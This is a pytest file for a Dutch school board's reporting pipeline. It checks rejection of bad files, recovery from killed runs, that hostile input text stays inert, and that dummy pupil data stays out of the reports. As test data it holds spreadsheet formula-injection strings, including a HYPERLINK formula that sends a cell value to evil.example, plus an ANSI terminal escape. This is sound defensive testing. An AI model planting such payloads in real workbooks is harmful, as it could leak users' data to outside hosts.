"""Bad input end to end: the whole bad corpus in one run, killed runs, inert text and pupil data (V3)."""
from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
import zipfile
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from defusedxml import ElementTree as SafeET
from openpyxl import load_workbook

from builders import good_fields, good_tables
from conftest import foreign_corpus
from pipeline import publish
from pipeline.read import board as config
from tools import demo
from pipeline.read import workbook as reader
from pipeline.read import safety
from pipeline import spec as spec_mod
from pipeline.render import workbook as template

try:
    from tests import badfiles
except ImportError:  # pytest's default import mode puts tests/ itself on sys.path
    import badfiles

REPO = Path(__file__).resolve().parents[1]
S = spec_mod.load()
GiB = 1024 ** 3
NOT_READ = {"afgewezen", "overgeslagen"}
STATUSES = {"gelezen", "vervangen", "afgewezen", "overgeslagen"}
W_NS = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


# --- running `report` as the board does --------------------------------------------------------


@dataclass
class Report:
    returncode: int
    stdout: str
    stderr: str
    seconds: float
    peak_tree_rss: int  # bytes: the largest sum of RSS over the process and all its descendants
    peak_child_rss: int  # bytes: ru_maxrss of the largest single child process


def _env() -> dict[str, str]:
    env = dict(os.environ)
    env["PYTHONPATH"] = str(REPO) + (os.pathsep + env["PYTHONPATH"] if env.get("PYTHONPATH") else "")
    env.pop("SOURCE_DATE_EPOCH", None)
    return env


def _command(inputs: Path, outputs: Path) -> list[str]:
    return [sys.executable, "-m", "pipeline", "report", "--inputs", str(inputs), "--outputs", str(outputs), "--geen-pdf"]


PAGE = os.sysconf("SC_PAGE_SIZE")


def _tree_rss(root: int) -> int:
    """Summed resident memory of `root` and its descendants, from /proc (shared pages count per process)."""
    parent, rss = {}, {}
    for entry in os.scandir("/proc"):
        if not entry.name.isdigit():
            continue
        try:
            with open(f"/proc/{entry.name}/stat", "rb") as fh:
                fields = fh.read().rpartition(b")")[2].split()
        except OSError:
            continue
        pid = int(entry.name)
        parent[pid], rss[pid] = int(fields[1]), int(fields[21]) * PAGE
    total, todo = 0, [root]
    children: dict[int, list[int]] = {}
    for pid, ppid in parent.items():
        children.setdefault(ppid, []).append(pid)
    while todo:
        pid = todo.pop()
        total += rss.get(pid, 0)
        todo.extend(children.get(pid, []))
    return total


class _Sampler(threading.Thread):
    def __init__(self, pid: int):
        super().__init__(daemon=True)
        self.pid, self.peak, self.stop = pid, 0, threading.Event()

    def run(self) -> None:
        while not self.stop.is_set():
            self.peak = max(self.peak, _tree_rss(self.pid))
            self.stop.wait(0.05)


GNU_TIME = Path("/usr/bin/time")
_MAXRSS = re.compile(r"Maximum resident set size \(kbytes\): (\d+)")


def run_report(inputs: Path, outputs: Path, timeout: float = 300) -> Report:
    """`report` in a subprocess; memory from /proc every 50 ms and from GNU time (or getrusage)."""
    import resource

    timed = GNU_TIME.is_file() and os.access(GNU_TIME, os.X_OK)
    command = ([str(GNU_TIME), "-v"] if timed else []) + _command(inputs, outputs)
    before_kib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    started = time.perf_counter()
    proc = subprocess.Popen(command, cwd=REPO, env=_env(), stdout=subprocess.PIPE,
                            stderr=subprocess.PIPE, text=True, start_new_session=True)
    sampler = _Sampler(proc.pid)
    sampler.start()
    try:
        out, err = proc.communicate(timeout=timeout)
    except subprocess.TimeoutExpired:
        os.killpg(proc.pid, signal.SIGKILL)
        out, err = proc.communicate()
        pytest.fail(f"report duurde langer dan {timeout} s\n{out}\n{err}")
    finally:
        sampler.stop.set()
        sampler.join()
    seconds = time.perf_counter() - started
    m = _MAXRSS.search(err) if timed else None
    if m:  # wait4's ru_maxrss: the largest single process of the run (its children included)
        child_kib = int(m.group(1))
        err = err[: err.rfind("\tCommand being timed:")]
    else:  # only meaningful when this run raised the maximum over all children of the test process
        child_kib = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
        child_kib = child_kib if child_kib > before_kib else 0
    return Report(proc.returncode, out, err, seconds, max(sampler.peak, child_kib * 1024), child_kib * 1024)


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def tree_hashes(folder: Path, *, skip_hidden: bool = False) -> dict[str, str]:
    out = {}
    for p in sorted(folder.rglob("*")):
        rel = p.relative_to(folder)
        if skip_hidden and any(part.startswith(".") for part in rel.parts):
            continue
        if p.is_file() and not p.is_symlink():
            out[rel.as_posix()] = sha256(p)
    return out


def manifest_files(outputs: Path) -> dict[str, dict]:
    entries = json.loads((outputs / "manifest.json").read_text(encoding="utf-8"))["files"]
    names = [e["file"] for e in entries]
    assert len(names) == len(set(names)), "a file is listed twice in manifest.json"
    return {e["file"]: e for e in entries}


def findings_frame(outputs: Path) -> pl.DataFrame:
    return pl.read_parquet(outputs / "data" / "bevindingen.parquet")


def docx_files(outputs: Path) -> list[Path]:
    return sorted(p for p in outputs.rglob("*.docx") if not any(part.startswith(".") for part in p.relative_to(outputs).parts))


def docx_paragraphs(path: Path) -> list[str]:
    """The text of every paragraph in the body (tables included), each paragraph's runs joined."""
    with zipfile.ZipFile(path) as z:
        root = SafeET.fromstring(z.read("word/document.xml"))
    return ["".join(t.text or "" for t in p.iter(f"{W_NS}t")) for p in root.iter(f"{W_NS}p")]


def docx_xml_parts(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist() if n.endswith((".xml", ".rels"))}


def assert_no_traceback(r: Report) -> None:
    assert "Traceback" not in r.stdout and "Traceback" not in r.stderr, r.stdout + r.stderr


# --- 1. the whole corpus in one run ------------------------------------------------------------


@pytest.fixture(scope="module")
def corpus_run(tmp_path_factory):
    base = tmp_path_factory.mktemp("corpus")
    inputs, outputs = base / "inputs", base / "outputs"
    demo.generate(inputs)
    (inputs / "slecht").mkdir()
    bad = badfiles.write_all(inputs / "slecht")
    foreign = []
    corpus = foreign_corpus()  # without it (only allowed outside CI) the run has the bad files alone
    if corpus:
        (inputs / "vreemd").mkdir()
        for p in sorted(corpus.iterdir()):
            if p.is_file():
                shutil.copyfile(p, inputs / "vreemd" / p.name)
                foreign.append(inputs / "vreemd" / p.name)
    before = tree_hashes(inputs)
    result = run_report(inputs, outputs)
    print(f"\ncorpus run: {len(before)} input files, {result.seconds:.1f} s, peak RSS of the process tree "
          f"{result.peak_tree_rss / 2**20:.0f} MiB, largest single process {result.peak_child_rss / 2**20:.0f} MiB")
    return dict(inputs=inputs, outputs=outputs, before=before, bad=[p for p, _ in bad], foreign=foreign, result=result)


def test_whole_corpus_end_to_end(corpus_run):
    inputs, outputs, r = corpus_run["inputs"], corpus_run["outputs"], corpus_run["result"]
    assert r.returncode == 0, r.stdout + r.stderr
    assert_no_traceback(r)

    # every input file in the manifest, exactly once, with a status and (when not read) a reason
    listed = manifest_files(outputs)
    expected = {rel for rel in corpus_run["before"] if not rel.startswith("grootboek/")}  # bestuur.xlsx too: it determines figures
    assert set(listed) == expected
    # the board's ledger exports are listed apart, with their hashes
    ledger = json.loads((outputs / "manifest.json").read_text(encoding="utf-8"))["ledger_files"]
    assert {e["file"]: e["sha256"] for e in ledger} == {
        rel: h for rel, h in corpus_run["before"].items() if rel.startswith("grootboek/")}
    for rel, e in listed.items():
        assert e["status"] in STATUSES, (rel, e["status"])
        if e["status"] != "gelezen":
            assert e["reason"].strip(), rel
        assert e["sha256"] == corpus_run["before"][rel], rel

    # every bad and every foreign file is rejected or skipped, never read
    strangers = [p.relative_to(inputs).as_posix() for p in corpus_run["bad"] + corpus_run["foreign"]]
    assert strangers
    wrongly_read = {rel: listed[rel]["status"] for rel in strangers if listed[rel]["status"] not in NOT_READ}
    assert wrongly_read == {}

    # a foreign .xlsx that passes the safety checks and opens is "geen inhuurwerkboek" (W2); one that does not open is W1
    found = findings_frame(outputs)
    for p in corpus_run["foreign"] + corpus_run["bad"]:
        rel = p.relative_to(inputs).as_posix()
        rules = set(found.filter(pl.col("file") == rel).get_column("rule").to_list())
        if listed[rel]["status"] == "overgeslagen":
            continue
        if safety.inspect(p).ok:
            try:
                reader.read_structure(p)
                opens = True
            except Exception:
                opens = False
            assert ("W2" if opens else "W1") in rules, (rel, rules)
        else:
            assert "W1" in rules, (rel, rules)

    # reports for the good files
    read = {rel for rel, e in listed.items() if e["status"] == "gelezen" and rel != config.FILE_NAME}
    assert {rel for rel in read if not rel.startswith(("slecht/", "vreemd/"))} == read
    assert len(read) >= 10
    assert list(outputs.glob("jaarverslag-*.docx"))
    assert list(outputs.glob("gmr-*.docx"))
    brins = {rel.split("/")[0] for rel in read}
    mr = list((outputs / "mr").glob("*.docx"))
    assert {p.name.split("-")[0] for p in mr} == brins
    wb = load_workbook(outputs / "register.xlsx", read_only=True)
    registered = {row[0] for row in wb["Inhuur"].iter_rows(min_row=2, values_only=True)}
    wb.close()
    assert read <= registered
    for rel, e in listed.items():
        if e["marked_copy"]:
            assert (outputs / e["marked_copy"]).is_file(), rel
    assert not [p for p in outputs.iterdir() if p.name.startswith((".staging-", ".old-"))]

    # the run's summary counts read, rejected and skipped files
    counts = json.loads((outputs / "manifest.json").read_text(encoding="utf-8"))["counts"]
    for label, key in (("Bestanden gelezen", "gelezen"), ("Afgewezen", "afgewezen"), ("Overgeslagen", "overgeslagen")):
        assert re.search(rf"{label}.*?\b{counts[key]}\b", r.stdout), (label, counts[key], r.stdout)

    # the demo board's pupil data (V3) reaches no Word document
    for doc in docx_files(outputs):
        for name, xml in docx_xml_parts(doc).items():
            assert b"111222333" not in xml and b"p.jansen@" not in xml, (doc.name, name)

    # inputs untouched, nothing added to them; bounded memory and time
    assert tree_hashes(inputs) == corpus_run["before"]
    assert r.peak_tree_rss < GiB, f"peak RSS {r.peak_tree_rss / 2**20:.0f} MiB"
    assert r.peak_child_rss < GiB
    assert r.seconds < 120


# --- 2. a run killed midway leaves the previous outputs ------------------------------------------


KILL_AFTER = (0.3, 1.0, 2.0)  # seconds; more points are added from the length of a full run


def _extra_workbook(inputs: Path, nr: int) -> Path:
    fields = dict(good_fields(), volgnummer=100 + nr, schooljaar="2022-2023", brin="12AB",
                  leverancier_naam=f"Extra Bureau {nr}")
    return write_xlsx(inputs / "12AB" / f"extra-{nr}.xlsx", fields, good_tables(fields))


def _outputs_state(outputs: Path, snapshot: dict[str, str]) -> str:
    """'old' when the previous outputs are all there unchanged, 'new' when a newer complete set is in place."""
    now = tree_hashes(outputs, skip_hidden=True)
    if all(now.get(rel) == digest for rel, digest in snapshot.items()):
        return "old"
    problems = [rel for rel, digest in snapshot.items() if now.get(rel) != digest]
    manifest = outputs / "manifest.json"
    if not manifest.is_file() or now.get("manifest.json") == snapshot.get("manifest.json"):
        return f"mixed: previous manifest but changed or missing {problems[:5]}"
    listed = manifest_files(outputs)
    missing = [e["marked_copy"] for e in listed.values() if e["marked_copy"] and not (outputs / e["marked_copy"]).is_file()]
    missing += [name for name in ("register.xlsx", "data/bevindingen.parquet") if not (outputs / name).is_file()]
    if not list(outputs.glob("jaarverslag-*.docx")) or not list((outputs / "mr").glob("*.docx")):
        missing.append("jaarverslag/mr")
    return f"mixed: new manifest but missing {missing[:5]}" if missing else "new"


@pytest.fixture(scope="module")
def killed_runs(tmp_path_factory):
    base = tmp_path_factory.mktemp("kill")
    inputs, outputs = base / "inputs", base / "outputs"
    demo.generate(inputs)
    first = run_report(inputs, outputs)
    assert first.returncode == 0, first.stdout + first.stderr
    snapshot = tree_hashes(outputs, skip_hidden=True)
    previous = base / "previous"
    shutil.copytree(outputs, previous, ignore=shutil.ignore_patterns(".*"))
    points = sorted(set(KILL_AFTER) | {round(first.seconds * f, 2) for f in (0.5, 0.85)})
    kills = []
    for i, delay in enumerate(points):
        _extra_workbook(inputs, i)
        proc = subprocess.Popen(_command(inputs, outputs), cwd=REPO, env=_env(), stdout=subprocess.DEVNULL,
                                stderr=subprocess.DEVNULL, start_new_session=True)
        time.sleep(delay)
        finished = proc.poll() is not None
        try:
            os.killpg(proc.pid, signal.SIGKILL)  # the whole run: main process and its workers
        except ProcessLookupError:
            pass
        proc.wait()
        state = _outputs_state(outputs, snapshot)
        kills.append(dict(delay=delay, finished=finished, state=state,
                          staging=sorted(p.name for p in outputs.iterdir() if p.name.startswith((".staging-", ".old-")))))
        if state == "new":  # the run got through: later kills are measured against these outputs
            snapshot = tree_hashes(outputs, skip_hidden=True)
    final = run_report(inputs, outputs)
    print("\nfirst run %.1f s; kills: %s" % (first.seconds, kills))
    return dict(inputs=inputs, outputs=outputs, kills=kills, final=final, previous=previous, first=first)


def test_killed_run_leaves_previous_outputs_intact(killed_runs):
    """Killed at each point, the outputs are the previous complete set or a newer complete set."""
    kills = killed_runs["kills"]
    assert any(not k["finished"] for k in kills), "no kill landed before the run ended"
    assert [k for k in kills if k["state"] not in ("old", "new")] == []


def test_later_run_cleans_up_after_killed_runs(killed_runs):
    outputs, final = killed_runs["outputs"], killed_runs["final"]
    assert final.returncode == 0, final.stdout + final.stderr
    assert_no_traceback(final)
    listed = manifest_files(outputs)
    assert {rel for rel in listed if rel.startswith("12AB/extra-")} == {
        p.relative_to(killed_runs["inputs"]).as_posix() for p in (killed_runs["inputs"] / "12AB").glob("extra-*.xlsx")}
    leftovers = sorted(p.name for p in list(outputs.iterdir()) + list(outputs.parent.iterdir())
                       if p.name.startswith((".staging-", ".old-", ".outputs-staging-", ".outputs-old-")))
    assert leftovers == [], f"left behind by killed runs: {leftovers}"


def test_crash_during_swap_leaves_old_or_new_outputs(killed_runs, tmp_path):
    """The last step of a run puts the staged outputs in place; a crash at any step of it leaves old or new."""
    old_dir, new_dir = killed_runs["previous"], killed_runs["outputs"]
    old, new = tree_hashes(old_dir), tree_hashes(new_dir, skip_hidden=True)
    assert old != new
    states: dict[int, Any] = {}
    for k in range(400):
        outputs = tmp_path / f"k{k}" / "outputs"
        shutil.copytree(old_dir, outputs)
        staging = outputs.parent / ".outputs-staging-test"
        shutil.copytree(new_dir, staging, ignore=shutil.ignore_patterns(".*"))
        pid = os.fork()
        if pid == 0:  # the child dies, as under SIGKILL, at its k-th file-system step
            calls = 0

            def dying(real):
                def step(*a, **kw):
                    nonlocal calls
                    if calls == k:
                        os._exit(9)
                    calls += 1
                    return real(*a, **kw)
                return step

            for mod, name in ((os, "replace"), (os, "rename"), (os, "link"), (os, "unlink"), (publish, "_exchange")):
                setattr(mod, name, dying(getattr(mod, name)))
            code = 1
            try:
                publish.swap_into(staging, outputs)
                code = 0
            finally:
                os._exit(code)
        _, status = os.waitpid(pid, 0)
        now = tree_hashes(outputs, skip_hidden=True)
        states[k] = "old" if now == old else "new" if now == new else sorted(
            rel for rel in set(now) | set(old) if now.get(rel) != old.get(rel))[:4]
        if os.waitstatus_to_exitcode(status) != 9:  # the swap got through without reaching step k
            assert os.waitstatus_to_exitcode(status) == 0 and states[k] == "new", states[k]
            break
    mixed = {k: v for k, v in states.items() if v not in ("old", "new")}
    assert mixed == {}, (f"a crash at {len(mixed)} of {len(states)} points of the swap left a mix of two runs, e.g. "
                         f"{dict(list(mixed.items())[:3])}")


# --- 3 and 4. text stays inert; pupil data stays out of the reports --------------------------------


def write_xlsx(path: Path, fields: dict[str, Any], tables: dict[str, list[list[Any]]], *,
               stray: dict[tuple[str, str], str] | None = None, control: dict[str, str] | None = None) -> Path:
    """A filled workbook. Text that looks like a formula is stored as text (as Excel stores what a school
    types after a quote, or into a text cell; the template has no formulas); `control` placeholders become
    Excel's _xHHHH_ escapes in the sheet XML, since openpyxl refuses control characters."""
    wb = template.build()
    template.fill(wb, {k: v for k, v in fields.items() if v is not None}, tables)
    for (sheet, coord), value in (stray or {}).items():
        wb[sheet][coord] = value
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    c.data_type = "s"
    path.parent.mkdir(parents=True, exist_ok=True)
    wb.save(path)
    if control:
        with zipfile.ZipFile(path) as z:
            parts = [(i, z.read(i)) for i in z.infolist()]
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
            for info, data in parts:
                if info.filename.startswith("xl/") and info.filename.endswith(".xml"):
                    for placeholder, escape in control.items():
                        data = data.replace(placeholder.encode(), escape.encode())
                z.writestr(info, data)
    return path


BEL, ESC = "QQBELQQ", "QQESCQQ"  # stand-ins for \x07 and \x1b, which openpyxl refuses to write
CONTROL = {BEL: "_x0007_", ESC: "_x001B_"}
LONG = ("Lange behoefte voor groep 7 & 8 <rekenen> \"taal\" 'lezen' " * 100)[:4999] + "."
assert len(LONG) == 5000

NASTY_FIELDS = {
    "leverancier_naam": "Jansen & Zn <b>\"vet\"</b> 'Leren' 🎓👩🏽‍🏫 مدرسة النور בית ספר \u202egnirotut",
    "school_naam": '=HYPERLINK("https://evil.example/?x="&A1;"Klik hier")',
    "behoefte": LONG,
    "eigen_capaciteit": "-2+3 uur per week eigen inzet",
    "leraren_betrokken": "+SUM(1;2) leraren kiezen de leerlingen",
    "keuze_toelichting": "@SOM(A1:A9) beste prijs-kwaliteitverhouding",
    "evaluatie_samenvatting": "Goed 👍🏽 نتائج جيدة — תוצאות טובות ✅",
    "kennisoverdracht": f"Bel{BEL} en escape{ESC}[31m rood",
}
NASTY_INVOICES = [
    ["=1+1", "31-12-2022", 10000, 2100, "Tutoring & <huiswerk> \"extra\" 'najaar'"],
    ["@F-2", "30-6-2023", 5000, 1050, "-korting =SUM(A1) +plus"],
    ["+F-3", "30-6-2023", 5000, 1050, f"👩‍🏫 مدرسة בית Bel{BEL}Eind"],
]

PUPIL_BSN, PUPIL_MAIL = "111222333", "p.jansen@leerling.school.example"
PRIVACY_BEHOEFTE = f"Aanmelding via de mentor: leerling {PUPIL_BSN} en {PUPIL_MAIL} doen mee."
# Elsewhere: a BSN in a date field (unreadable, W4) and an e-mail address typed outside the input cells
# (W5), placed so that the finding's quote of the cell (80 characters) cuts it after the domain name.
OTHER_BSN, OTHER_MAIL = "123456782", "k.devries@leerling.school.example"
STRAY_TEXT = "Contact ouders " + "x" * (80 - len("Contact ouders ") - len("k.devries@leerling")) + OTHER_MAIL
STRAY_CELL = ("1 Verkenning", "F40")


@pytest.fixture(scope="module")
def text_run(tmp_path_factory):
    base = tmp_path_factory.mktemp("tekst")
    inputs, outputs = base / "inputs", base / "outputs"
    inputs.mkdir()
    config.write(inputs / config.FILE_NAME, demo.BOARD)

    nasty = dict(good_fields(), **NASTY_FIELDS)
    tables = good_tables(nasty)
    tables["tblFacturen"] = NASTY_INVOICES
    tables["tblOffertes"][0][0] = NASTY_FIELDS["leverancier_naam"]
    write_xlsx(inputs / "12AB" / "vreemde tekst.xlsx", nasty, tables, control=CONTROL)

    pupil = dict(good_fields(), brin="14CD", school_naam="CBS Het Kompas", behoefte=PRIVACY_BEHOEFTE)
    write_xlsx(inputs / "14CD" / "leerlinggegevens.xlsx", pupil, good_tables(pupil))

    other = dict(good_fields(), brin="17EF", school_naam="SBO De Brug", evaluatiedatum=f"na gesprek met leerling {OTHER_BSN}")
    write_xlsx(inputs / "17EF" / "leerlinggegevens elders.xlsx", other, good_tables(other), stray={STRAY_CELL: STRAY_TEXT})

    before = tree_hashes(inputs)
    result = run_report(inputs, outputs)
    assert result.returncode == 0, result.stdout + result.stderr
    assert_no_traceback(result)
    assert tree_hashes(inputs) == before
    listed = manifest_files(outputs)
    assert {e["status"] for e in listed.values()} == {"gelezen"}, listed
    return dict(inputs=inputs, outputs=outputs, listed=listed)


def _no_control(text: str) -> str:
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text)


def test_register_holds_input_text_as_inert_strings(text_run):
    outputs = text_run["outputs"]
    wb = load_workbook(outputs / "register.xlsx")
    formulas = [(ws.title, c.coordinate, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
    hires = wb["Inhuur"]
    header = [c.value for c in hires[1]]
    row = next(r for r in hires.iter_rows(min_row=2) if r[0].value == "12AB/vreemde tekst.xlsx")
    cells = dict(zip(header, row))
    for column, name in (("School", "school_naam"), ("Leverancier", "leverancier_naam")):
        assert cells[column].value == NASTY_FIELDS[name] and cells[column].data_type == "s", column
    invoices = wb["Facturen"]
    header = [c.value for c in invoices[1]]
    rows = [dict(zip(header, r)) for r in invoices.iter_rows(min_row=2) if r[header.index("Bestand")].value == "12AB/vreemde tekst.xlsx"]
    # register.xlsx drops control characters: no XML 1.0 text can hold \x07 or \x1b
    typed = {(n, _no_control(d.replace(BEL, "\x07"))) for n, _, _, _, d in NASTY_INVOICES}
    assert {(r["Factuurnummer"].value, r["Omschrijving"].value) for r in rows} == typed
    assert all(r[c].data_type == "s" for r in rows for c in ("Factuurnummer", "Omschrijving"))


def test_marked_copy_keeps_input_text_inert(text_run):
    outputs, listed = text_run["outputs"], text_run["listed"]
    copy = listed["12AB/vreemde tekst.xlsx"]["marked_copy"]
    assert copy, "no marked copy of a workbook with findings"
    wb = load_workbook(outputs / copy)
    for name, value in NASTY_FIELDS.items():
        f = S.fields[name]
        c = wb[f.sheet][f.cell]
        # what openpyxl shows of the _xHHHH_ escapes is the escape itself: the copy keeps the school's bytes
        shown = value.replace(BEL, "_x0007_").replace(ESC, "_x001B_")
        assert (c.value, c.data_type) == (shown, "s"), name
    t = S.tables["tblFacturen"]
    ws = wb[t.sheet]
    for i, row in enumerate(NASTY_INVOICES):
        for col in ("Factuurnummer", "Omschrijving"):
            c = ws[f"{t.column_letter(col)}{t.first_row + i}"]
            assert c.data_type == "s" and isinstance(c.value, str), (i, col, c.value)
    # the template has no formulas, so neither may the copy (the Bevindingen sheet included)
    assert [(ws.title, c.coordinate) for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"] == []


def test_word_documents_show_input_text_exactly_and_are_well_formed(text_run):
    outputs = text_run["outputs"]
    docs = docx_files(outputs)
    assert docs
    for doc in docs:
        for name, xml in docx_xml_parts(doc).items():
            SafeET.fromstring(xml)  # raises on anything that is not well-formed XML
    mr = outputs / "mr" / "12AB-2022-2023.docx"
    text = "\n".join(docx_paragraphs(mr))
    for name in ("leverancier_naam", "behoefte", "eigen_capaciteit", "leraren_betrokken", "keuze_toelichting",
                 "evaluatie_samenvatting"):
        assert NASTY_FIELDS[name] in text, name
    assert re.search(r"Bel ?en escape ?\[31m rood", text), "kennisoverdracht with its control characters"


def _rules_at(outputs: Path, file: str) -> set[tuple[str, str, str]]:
    df = findings_frame(outputs).filter(pl.col("file") == file)
    return set(df.select("rule", "sheet", "cell").iter_rows())


def _docs_containing(outputs: Path, needles: list[str]) -> list[tuple[str, str]]:
    hits = []
    for doc in docx_files(outputs):
        text = "\n".join(docx_paragraphs(doc))
        for part, xml in docx_xml_parts(doc).items():
            hits += [(doc.relative_to(outputs).as_posix(), n) for n in needles if n.encode() in xml]
        hits += [(doc.relative_to(outputs).as_posix(), n) for n in needles if n in text]
    return sorted(set(hits))


def test_pupil_data_is_flagged_v3_and_kept_out_of_reports(text_run):
    outputs = text_run["outputs"]
    f = S.fields["behoefte"]
    assert ("V3", f.sheet, f.cell) in _rules_at(outputs, "14CD/leerlinggegevens.xlsx")
    assert (outputs / "mr" / "14CD-2022-2023.docx").is_file()
    assert _docs_containing(outputs, [PUPIL_BSN, PUPIL_MAIL, "p.jansen"]) == []


def test_pupil_data_elsewhere_in_the_workbook_is_kept_out_of_reports(text_run):
    outputs = text_run["outputs"]
    rules = _rules_at(outputs, "17EF/leerlinggegevens elders.xlsx")
    f = S.fields["evaluatiedatum"]
    assert ("W4", f.sheet, f.cell) in rules
    assert ("W5", *STRAY_CELL) in rules
    assert _docs_containing(outputs, [OTHER_BSN, OTHER_MAIL, "k.devries"]) == []
